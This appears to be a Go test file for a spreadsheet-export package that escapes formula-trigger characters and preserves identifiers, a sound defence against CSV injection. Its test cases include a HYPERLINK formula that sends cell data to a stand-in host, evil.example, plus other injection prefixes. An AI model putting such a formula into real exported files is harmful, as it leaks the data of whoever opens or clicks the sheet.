package spreadsheet

import "testing"

func TestText(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?d="&A2,"详情")`: `'=HYPERLINK("http://evil.example/?d="&A2,"详情")`,
		"+1":        "'+1",
		"-2+3":      "'-2+3",
		"@x":        "'@x",
		"\tcmd":     "'\tcmd",
		"\r=1":      "'\r=1",
		"-3.5":      "'-3.5", // a text cell, whatever it looks like
		"张三":        "张三",
		"a=b":       "a=b",
		"":          "",
		"'quoted":   "'quoted",
		" =leading": " =leading",
	} {
		if got := Text(in); got != want {
			t.Errorf("Text(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestIdentifier(t *testing.T) {
	for in, want := range map[string]string{
		"00007":              `="00007"`,
		"330102198001010017": `="330102198001010017"`,
		"H1":                 "H1",
		"-H1":                "'-H1",
		`=A1`:                `'=A1`,
		`="1"&A1`:            `'="1"&A1`,
		"":                   "",
	} {
		if got := Identifier(in); got != want {
			t.Errorf("Identifier(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestCell(t *testing.T) {
	for in, want := range map[string]string{
		"-3.5": "-3.5",
		"-12":  "-12",
		"42":   "42",
		"+1":   "'+1",
		"-2+3": "'-2+3",
		"-1e3": "'-1e3",
		"-":    "'-",
		"=1":   "'=1",
		"名":    "名",
	} {
		if got := Cell(in); got != want {
			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestRead: what Text, Identifier and Cell write reads back as the cell they were given.
func TestRead(t *testing.T) {
	for _, s := range []string{`=HYPERLINK("http://evil.example/","x")`, "+1", "-2+3", "@x", "-3.5", "00007", "张三", "'quoted", "-H1"} {
		for name, write := range map[string]func(string) string{"Text": Text, "Identifier": Identifier, "Cell": Cell} {
			if got := Read(write(s)); got != s {
				t.Errorf("Read(%s(%q)) = %q", name, s, got)
			}
		}
	}
	for in, want := range map[string]string{`="H 1"`: "H 1", "'\tx": "x", `="a"b"`: `="a"b"`} {
		if got := Read(in); got != want {
			t.Errorf("Read(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestDisplayWidth(t *testing.T) {
	for s, want := range map[string]int{"": 0, "330102": 6, "杭州市": 6, "上城区 (%)": 10} {
		if got := DisplayWidth(s); got != want {
			t.Errorf("DisplayWidth(%q) = %d, want %d", s, got, want)
		}
	}
}
